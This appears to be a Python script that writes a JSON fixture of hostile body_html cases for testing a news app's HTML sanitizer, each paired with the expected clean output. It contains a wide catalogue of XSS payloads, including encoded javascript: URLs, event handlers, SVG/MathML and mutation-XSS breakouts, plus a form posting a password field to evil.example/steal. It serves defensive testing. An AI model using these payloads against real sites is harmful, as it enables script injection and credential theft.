#!/usr/bin/env python3
"""Writes body_html.json: hostile `body_html` cases with the output the
sanitizer must produce (docs/news-api.md, "Rules"). Each expected output was
worked out from the allowlist by hand; tests/browser.rs checks the sanitizer
against it in Chromium, and tests/e2e/hostile.test.mjs renders every case in
an article and checks that nothing ran. Source URL of the cases:
https://news.example.gov/api/en/news/a.json (the app's origin is
https://news.example.gov)."""
import json, pathlib

E = "https://news.example.gov/api/en/news/"
X = ' rel="noopener noreferrer"'
IMG = ' loading="lazy" decoding="async"'
NOALT = IMG + ' alt=""'  # an image without alt gets an empty one, after the loading hints
S = "window.__pwned=1"  # every payload sets the sentinel; a test checks it stays unset

CASES = [
    # Scripts and executable content
    ("script tag", f"<p>a</p><script>{S}</script><p>b</p>", "<p>a</p><p>b</p>"),
    ("script with src", '<script src="https://evil.example/x.js"></script><p>ok</p>', "<p>ok</p>"),
    ("uppercase SCRIPT", f"<SCRIPT>{S}</SCRIPT>text", "text"),
    # The NUL makes an unknown element (scr\uFFFDipt): unwrapped, its payload is shown as text.
    ("script split by null", f"<scr\0ipt>{S}</script>x", f"{S}x"),
    # DOMParser parses with scripting off: a <p> cannot be in a <noscript> at the
    # start (head), so the parser moves it to the body as a plain paragraph.
    ("noscript wrapper", f"<noscript><p>hidden</p></noscript><p>shown</p>", "<p>hidden</p><p>shown</p>"),
    ("style tag", "<style>body{background:url(javascript:alert(1))}</style><p>t</p>", "<p>t</p>"),
    ("style attribute", '<p style="background:url(javascript:alert(1))">t</p>', "<p>t</p>"),
    ("css expression", '<p style="width:expression(alert(1))">t</p>', "<p>t</p>"),
    ("link stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css"><p>t</p>', "<p>t</p>"),
    ("template", f"<template><img src=x onerror=\"{S}\"></template><p>t</p>", "<p>t</p>"),
    # Event handlers
    ("img onerror", f'<img src="x" onerror="{S}">', f'<img src="{E}x"{NOALT}>'),
    ("img onerror no quotes", f"<img src=x onerror={S}>", f'<img src="{E}x"{NOALT}>'),
    ("body onload", f'<body onload="{S}"><p>t</p></body>', "<p>t</p>"),
    ("p onclick", f'<p onclick="{S}">t</p>', "<p>t</p>"),
    ("a onmouseover", f'<a href="https://ok.example/" onmouseover="{S}">t</a>', f'<a href="https://ok.example/"{X}>t</a>'),
    ("div onfocus autofocus", f'<div tabindex="1" autofocus onfocus="{S}">t</div>', "t"),
    ("details ontoggle", f'<details open ontoggle="{S}"><summary>s</summary>d</details>', "sd"),
    ("marquee onstart", f'<marquee onstart="{S}">m</marquee>', "m"),
    ("video onerror", f'<video><source onerror="{S}"></video><p>t</p>', "<p>t</p>"),
    ("audio src onerror", f'<audio src=x onerror="{S}"></audio><p>t</p>', "<p>t</p>"),
    ("input autofocus onfocus", f'<input autofocus onfocus="{S}"><p>t</p>', "<p>t</p>"),
    ("select onfocus", f'<select autofocus onfocus="{S}"><option>o</option></select><p>t</p>', "<p>t</p>"),
    # javascript: and other schemes
    ("javascript href", f'<a href="javascript:{S}">t</a>', "t"),
    ("JavaScript mixed case", f'<a href="JaVaScRiPt:{S}">t</a>', "t"),
    ("javascript with tab", f'<a href="java\tscript:{S}">t</a>', "t"),
    ("javascript with newline", f'<a href="java\nscript:{S}">t</a>', "t"),
    ("javascript leading space", f'<a href="  javascript:{S}">t</a>', "t"),
    ("javascript entity encoded", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">t</a>', "t"),
    ("javascript hex entities", '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">t</a>', "t"),
    ("javascript named colon entity", '<a href="javascript&colon;alert(1)">t</a>', "t"),
    ("vbscript href", '<a href="vbscript:msgbox(1)">t</a>', "t"),
    ("data html href", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">t</a>', "t"),
    ("data image src", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="a">', ""),
    ("javascript img src", f'<img src="javascript:{S}" alt="a">', ""),
    ("blob href", '<a href="blob:https://evil.example/1">t</a>', "t"),
    ("file href", '<a href="file:///etc/passwd">t</a>', "t"),
    # mailto: opens no browsing context, so it needs no rel.
    ("mailto kept", '<a href="mailto:info@migration.gov.az">mail</a>', '<a href="mailto:info@migration.gov.az">mail</a>'),
    ("relative href resolves", '<a href="../pages/terms.json">t</a>', '<a href="https://news.example.gov/api/en/pages/terms.json">t</a>'),
    ("external https gets rel", '<a href="https://www.icmpd.org/" target="_blank">ICMPD</a>', f'<a href="https://www.icmpd.org/"{X}>ICMPD</a>'),
    ("protocol-relative href", '<a href="//evil.example/x">t</a>', f'<a href="https://evil.example/x"{X}>t</a>'),
    # SVG and MathML
    ("svg onload", f'<svg onload="{S}"><circle r="1"/></svg><p>t</p>', "<p>t</p>"),
    ("svg script", f"<svg><script>{S}</script></svg><p>t</p>", "<p>t</p>"),
    ("svg animate href", f'<svg><a><animate attributeName="href" values="javascript:{S}"/><text>x</text></a></svg>', ""),
    ("svg foreignObject", f'<svg><foreignObject><img src=x onerror="{S}"></foreignObject></svg>', ""),
    ("math href", f'<math><mtext><a href="javascript:{S}">t</a></mtext></math>', ""),
    ("math mglyph style", f'<math><mtext><table><mglyph><style><img src=x onerror="{S}"></style></mglyph></table></mtext></math>', ""),
    # Mutation XSS
    # The <p> leaves the head's noscript (see above); the payload stays inside
    # its title, which a <p> does not keep.
    ("noscript mxss", f'<noscript><p title="</noscript><img src=x onerror={S}>"></noscript>', "<p></p>"),
    # </p> breaks out of the svg; the <img> is then real HTML and stays, minus onerror.
    ("style in svg mxss", f'<svg></p><style><a id="</style><img src=1 onerror={S}>">', f'<p></p><img src="{E}1"{NOALT}>"&gt;'),
    ("form math mxss", f'<form><math><mtext></form><form><mglyph><style></math><img src onerror={S}>', ""),
    ("title mxss", f'<title><img src=x onerror="{S}"></title><p>t</p>', "<p>t</p>"),
    ("textarea mxss", f'<textarea><img src=x onerror="{S}"></textarea><p>t</p>', "<p>t</p>"),
    ("xmp mxss", f'<xmp><img src=x onerror="{S}"></xmp><p>t</p>', "<p>t</p>"),
    ("comment breakout", f'<!--><img src=x onerror="{S}">--><p>t</p>', f'<img src="{E}x"{NOALT}>--&gt;<p>t</p>'),
    ("cdata in html", f'<![CDATA[><img src=x onerror="{S}">]]><p>t</p>', f'<img src="{E}x"{NOALT}>]]&gt;<p>t</p>'),
    # Document-level tricks
    ("base href", '<base href="https://evil.example/"><a href="x">t</a>', f'<a href="{E}x">t</a>'),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>t</p>', "<p>t</p>"),
    ("meta csp", "<meta http-equiv=\"Content-Security-Policy\" content=\"script-src *\"><p>t</p>", "<p>t</p>"),
    ("form action", '<form action="https://evil.example/steal"><p>Name</p><input name="pass"><button>Send</button></form>', "<p>Name</p>Send"),
    # A button is dropped, its text kept (the contract keeps the text of dropped elements).
    ("formaction button", f'<button formaction="javascript:{S}">b</button><p>t</p>', "b<p>t</p>"),
    ("iframe srcdoc", f'<iframe srcdoc="<script>{S}</script>"></iframe><p>t</p>', "<p>t</p>"),
    ("iframe javascript src", f'<iframe src="javascript:{S}"></iframe><p>t</p>', "<p>t</p>"),
    ("object data", f'<object data="javascript:{S}"></object><p>t</p>', "<p>t</p>"),
    ("embed src", '<embed src="https://evil.example/x.swf"><p>t</p>', "<p>t</p>"),
    ("frameset", f'<frameset onload="{S}"><frame src="x"></frameset>', ""),
    # Attributes that are not on the list
    ("id and class dropped", '<p id="main-content" class="skip-link">t</p>', "<p>t</p>"),
    ("name clobbering", '<img name="getElementById" src="a.png" alt="a">', f'<img src="{E}a.png" alt="a"{IMG}>'),
    ("width not a number", '<img src="a.png" alt="a" width="100%" height="20">', f'<img src="{E}a.png" alt="a" height="20"{IMG}>'),
    ("table attributes", '<table><tr><th scope="col" onclick="x()">h</th><td colspan="2" style="x">d</td></tr></table>',
     '<table><tbody><tr><th scope="col">h</th><td colspan="2">d</td></tr></tbody></table>'),
    ("srcset and usemap", '<img src="a.png" srcset="javascript:alert(1) 1x" usemap="#m" alt="a">', f'<img src="{E}a.png" alt="a"{IMG}>'),
    # Allowed content survives
    ("allowed formatting", "<h1>T</h1><h5>s</h5><p><strong>b</strong> <em>i</em> <u>u</u><br>x</p><hr>",
     "<h2>T</h2><h4>s</h4><p><strong>b</strong> <em>i</em> <u>u</u><br>x</p><hr>"),
    ("lists and quote", "<ul><li>a</li></ul><ol><li>b</li></ol><blockquote><p>q</p></blockquote>",
     "<ul><li>a</li></ul><ol><li>b</li></ol><blockquote><p>q</p></blockquote>"),
    ("figure", '<figure><img src="a.png" alt="A" width="10" height="5"><figcaption>c</figcaption></figure>',
     f'<figure><img src="{E}a.png" alt="A" width="10" height="5"{IMG}><figcaption>c</figcaption></figure>'),
    ("div and span unwrapped", "<div><span>one</span> <font color=red>two</font></div>", "one two"),
    ("entities stay text", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>", "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"),
]

out = [{"name": name, "html": html, "expected": expected} for name, html, expected in CASES]
names = [c["name"] for c in out]
assert len(set(names)) == len(names), "case names must be unique"
path = pathlib.Path(__file__).with_name("body_html.json")
path.write_text(json.dumps(out, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")
print(f"{len(out)} cases -> {path}")
